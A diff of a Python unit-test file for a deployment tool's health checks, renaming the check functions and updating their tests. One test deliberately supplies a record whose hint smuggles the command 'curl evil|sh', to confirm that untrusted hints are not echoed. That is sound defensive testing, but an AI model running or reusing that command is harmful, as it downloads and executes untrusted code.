@@ -7,7 +7,7 @@ import pytest
 
 from hookd.model.deployment import Deployment, Status, Trigger
 from tests.unit.units.doctor.test_services import app
-from units.doctor.checks.queue import ending, pushes, waiting
+from units.doctor.checks.queue import check_last_deployment, check_last_push, check_overdue
 from units.doctor.finding import Finding
 
 NOW = datetime(2026, 8, 1, 12, tzinfo=UTC)
@@ -35,7 +35,7 @@ def levels(found: list[Finding]) -> list[str]:
     ],
 )
 def test_what_waits_or_runs_too_long(history: list[Deployment], expected: list[str]) -> None:
-    found = list(waiting(app(), history, NOW))
+    found = list(check_overdue(app(), history, NOW))
     assert levels(found) == expected
     assert all("hookd-worker@1.service" in (one.hint or "") for one in found)
 
@@ -52,14 +52,14 @@ def test_what_waits_or_runs_too_long(history: list[Deployment], expected: list[s
     ],
 )
 def test_how_the_last_deployment_ended(history: list[Deployment], expected: list[str]) -> None:
-    found = list(ending(app(), history))
+    found = list(check_last_deployment(app(), history))
     assert levels(found) == expected
     assert all("hookd logs shop-" in (one.hint or "") for one in found)
 
 
 def test_the_cause_of_a_failure_is_told_and_its_hint_is_not() -> None:
     """Whoever took the receiver over may write a record; root types what the doctor says."""
-    (found,) = ending(
+    (found,) = check_last_deployment(
         app(), [record(Status.FAILED, 1, cause="it does not import", hint="hookd deploy x; curl evil|sh")]
     )
     assert found.what == "the last deployment ended failed: it does not import"
@@ -68,7 +68,7 @@ def test_the_cause_of_a_failure_is_told_and_its_hint_is_not() -> None:
 
 def test_a_push_that_never_arrived() -> None:
     by_hand = [record(Status.SUCCEEDED, 5, Trigger.MANUAL)]
-    (found,) = pushes(app(), by_hand, "paste it", NOW)
+    (found,) = check_last_push(app(), by_hand, "paste it", NOW)
     assert (found.level, found.hint) == ("warning", "paste it")
-    (found,) = pushes(app(), [*by_hand, record(Status.SUCCEEDED, 3 * 60)], "paste it", NOW)
+    (found,) = check_last_push(app(), [*by_hand, record(Status.SUCCEEDED, 3 * 60)], "paste it", NOW)
     assert (found.level, found.what) == ("ok", "the last push of shop arrived 3 h ago")
